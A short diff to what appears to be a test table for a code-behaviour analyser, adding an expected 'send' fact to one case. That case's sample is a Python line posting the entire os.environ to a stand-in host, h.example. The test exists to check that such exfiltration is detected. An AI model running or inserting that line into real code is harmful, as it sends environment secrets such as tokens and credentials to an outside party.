@@ -49,7 +49,7 @@ const CASES: readonly (readonly [language: string, text: string, facts: readonly
   [
     'python',
     'import os,requests\nrequests.post("https://h.example/x",json=dict(os.environ))',
-    ['fetch(https://h.example/x)', 'environment-read()'],
+    ['fetch(https://h.example/x)', 'send(https://h.example/x)', 'environment-read()'],
   ],
   [
     'python',
